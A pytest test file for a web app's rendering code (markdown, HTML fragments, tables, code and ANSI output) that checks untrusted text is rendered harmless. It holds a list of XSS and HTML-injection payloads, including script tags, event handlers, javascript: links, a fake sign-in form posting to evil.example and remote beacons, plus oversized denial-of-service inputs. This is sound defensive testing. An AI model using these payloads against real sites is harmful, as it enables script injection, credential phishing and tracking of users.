"""Nothing that a stranger wrote runs, loads from elsewhere, or leaves its place on the page."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hub.web.rendering import Prose, ansi, code, code_lines, fragment, markdown, table

PICTURE = "data:image/png;base64,iVBORw0KGgo="
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/beacon.png" alt="beacon">',
    '<img src="//evil.example/beacon.png">',
    '<img src="/\\evil.example/beacon.png">',
    '<img srcset="https://evil.example/a.png 2x" src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example" target="_top" onclick="alert(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="x">',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<div id="live" class="toast" hx-get="/settings" hx-trigger="load" data-key="search">x</div>',
    '<h1 id="main">x</h1><a name="cookie">x</a>',
    '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a"></audio>',
    '<table background="https://evil.example/x"><tr><td onmouseover="alert(1)">1</td></tr></table>',
    '<details ontoggle="alert(1)" open><summary>x</summary></details>',
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<command-palette></command-palette><search-box><input></search-box>",
    '<a href="https://ok.example"><b></a></b></td></div></main>',
    "![x](javascript:alert(1)) [x](javascript:alert(1)) <javascript:alert(1)>",
    "![x](https://evil.example/x.png)\n\n[x]: javascript:alert(1)\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "$<script>alert(1)</script>$ and $$<img src=x onerror=alert(1)>$$",
    "\x1b]8;;javascript:alert(1)\x07<script>alert(1)</script>\x1b[31m",
]
TAGS = frozenset(
    """a abbr b blockquote br caption center code dd del details div dl dt em h2 h3 h4 h5 h6 hr i img ins kbd
    li mark ol p pre q s samp small span strike strong sub summary sup table tbody td tfoot th thead tr u ul
    var""".split()  # noqa: SIM905  fifty words read better than fifty strings
)
ATTRIBUTES = {"href", "rel", "title", "src", "alt", "width", "height", "colspan", "rowspan", "scope", "start"}
ATTRIBUTES |= {"open", "id", "class", "tabindex"}
CLASSES = {"", "kw", "st", "cm", "nu", "fn", "left-out", "math", "num", "table"}


class Inspector(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in {"br", "hr", "img"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, f"</{tag}> closes something else"


def assert_harmless(html: str) -> None:
    page = Inspector(html)
    assert page.open == []
    for tag, attributes in page.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        assert attributes.get("tabindex", "0") == "0"
        assert "tabindex" not in attributes or tag == "pre"
        assert set(attributes.get("class", "").split(" ")) <= CLASSES
        assert attributes.get("src", "/").startswith(("/content/", "/", "data:image/png;base64,"))
        assert not attributes.get("src", "/").startswith(("//", "/\\"))
        assert attributes.get("href", "/").startswith(("https://", "http://", "mailto:", "#md-", "/"))
        assert not attributes.get("href", "/").startswith("//")
        assert attributes.get("id", "md-1").startswith("md-")


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_is_harmless_in_every_form(payload: str) -> None:
    for rendered in (markdown(payload), fragment(payload)):
        assert_harmless(rendered.html)
        assert "evil.example" not in "".join(
            str(attributes) for _, attributes in Inspector(rendered.html).tags
        )
    framed = table(f"<table><thead><tr><th>{payload}</th></tr></thead><tr><td>{payload}</td></tr></table>")
    if framed is not None:
        assert_harmless(framed.html)
    coloured = (ansi(payload), code(payload, "python"), code(payload, "html", words=["script"]))
    for html in coloured:
        assert {tag for tag, _ in Inspector(html).tags} <= {"span", "mark"}


@given(st.text())
def test_any_text_is_harmless(text: str) -> None:
    assert_harmless(markdown(text).html)
    assert_harmless(fragment(text).html)


def test_a_mapped_picture_stays_and_an_unknown_one_says_that_it_is_left_out() -> None:
    known = {"plot.png": "/content/abc"}
    rendered = markdown("![Rides](plot.png) ![Map](map.png)", pictures=lambda source: known.get(source, ""))
    assert '<img src="/content/abc" alt="Rides">' in rendered.html
    assert "Picture left out: Map" in rendered.html


def test_an_inline_picture_stays_and_gets_words() -> None:
    assert (
        f'<img src="{PICTURE}" alt="Picture without a description">'
        in fragment(f'<img src="{PICTURE}">').html
    )


def test_a_relative_link_leads_where_the_page_says_or_nowhere() -> None:
    links = {"other.ipynb": "/notebooks/demand/other.ipynb"}
    rendered = markdown("[other](other.ipynb) [gone](gone.md)", links=lambda target: links.get(target, ""))
    assert '<a href="/notebooks/demand/other.ipynb"' in rendered.html
    assert "<a" not in rendered.html.split("other</a>")[1].replace("<a rel", "")


def test_headings_of_many_cells_make_one_outline_without_gaps() -> None:
    first = markdown("# Rain\n\n#### Deep", anchor="c1")
    second = markdown("### Next", anchor="c2", after_level=first.last_level)
    levels = [
        (heading.level, heading.text, heading.anchor) for part in (first, second) for heading in part.headings
    ]
    assert levels == [(2, "Rain", "md-c1-1"), (3, "Deep", "md-c1-2"), (4, "Next", "md-c2-1")]


def test_math_stays_as_it_was_written() -> None:
    assert markdown("$r_a * r_b$").html == '<p><code class="math">r_a * r_b</code></p>\n'


def test_a_data_frame_becomes_a_table_with_scoped_headers() -> None:
    found = table(
        '<style>x</style><table border="1"><thead><tr><th></th><th>rows</th></tr></thead>'
        "<tbody><tr><th>0</th><td>2,412</td></tr><tr><th>1</th><td><b>no</b>ne</td></tr></tbody></table>"
    )
    assert found is not None
    assert found.html == (
        '<table class="table"><thead><tr><td></td><th scope="col">rows</th></tr></thead><tbody>'
        '<tr><th scope="row">0</th><td class="num">2,412</td></tr>'
        '<tr><th scope="row">1</th><td>none</td></tr></tbody></table>'
    )


def test_a_long_table_is_cut_and_says_so() -> None:
    found = table("<table>" + "<tr><td>1</td></tr>" * 500 + "</table>", max_rows=10)
    assert found is not None
    assert (found.rows, found.shown, found.html.count("<tr>")) == (500, 10, 10)


def test_what_holds_no_table_gives_none() -> None:
    assert table("<p>1</p>") is None


def test_code_has_five_classes_and_marks() -> None:
    html = code('rides = spark.table("mart.rides")  # 2 h', "python", words=["rides"])
    assert html == (
        '<mark>rides</mark> = spark.<span class="fn">table</span>(<span class="st">"mart.</span>'
        '<span class="st"><mark>rides</mark></span><span class="st">"</span>)  <span class="cm"># 2 h</span>'
    )


@given(st.text(alphabet="ab\"'#\n ()1", max_size=40))
def test_lines_of_code_hold_what_the_code_holds(source: str) -> None:
    lines = code_lines(source, "python")
    assert "\n".join(_text(line) for line in lines) == source.removesuffix("\n")


def test_half_a_character_is_shown_as_a_question_mark() -> None:
    half = "a\ud800b"
    assert [code(half, "python"), ansi(half), markdown(half).html] == ["a?b", "a?b", "<p>a?b</p>\n"]


ENDLESS = [
    "<b>" * 200_000,
    "a\r" * 200_000,
    "a" * 600_000,
    "&" * 300_000,
    "\x1b[" * 200_000,
    "<table><tr><td>" * 20_000,
    ">" * 49_000,
]


@pytest.mark.parametrize("endless", ENDLESS)
def test_endless_input_gives_a_page_all_the_same(endless: str) -> None:
    for rendered in (markdown(endless).html, fragment(endless).html, ansi(endless), code(endless, "scala")):
        assert len(rendered) < 4_000_000
    table(endless)


def test_an_unknown_language_is_plain() -> None:
    assert code("a < b", "klingon") == "a &lt; b"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("\x1b[31;1mFailed\x1b[0m done", '<span class="a-red a-b">Failed</span> done'),
        ("\x1b[91mbright\x1b[39m", '<span class="a-red">bright</span>'),
        ("\x1b[38;5;200mpink\x1b[48;2;1;2;3m", "pink"),
        (" 10%\r 50%\r100%\ndone", "100%\ndone"),
        ("line\r\n", "line\n"),
        ("\x1b[2J\x1b]0;title\x07\x1b(Bkept", "kept"),
    ],
)
def test_terminal_text_is_shown_as_a_terminal_does(written: str, shown: str) -> None:
    assert ansi(written) == shown


def _text(html: str) -> str:
    texts: list[str] = []
    parser = HTMLParser()
    parser.handle_data = texts.append  # type: ignore[method-assign, assignment]  # all that is wanted is the text
    parser.feed(html)
    parser.close()
    return "".join(texts)


def test_prose_without_headings_keeps_the_level() -> None:
    assert markdown("text", after_level=3) == Prose(html=markdown("text").html, last_level=3)
